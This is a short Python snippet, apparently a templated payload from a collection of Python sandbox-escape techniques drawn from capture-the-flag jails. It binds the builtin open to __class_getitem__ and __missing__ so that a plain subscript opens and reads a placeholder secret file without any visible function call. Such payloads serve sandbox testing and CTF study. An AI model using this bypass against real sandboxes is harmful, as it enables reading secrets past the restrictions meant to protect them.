# technique: open as __class_getitem__ and as __missing__
# goal: read-secret
# source: CTF jails without calls
class Shelf:
    __class_getitem__ = open


class Table(dict):
    __missing__ = open


try:
    print(Shelf['@SECRET@'].read())
except Exception:
    print(Table()['@SECRET@'].read())
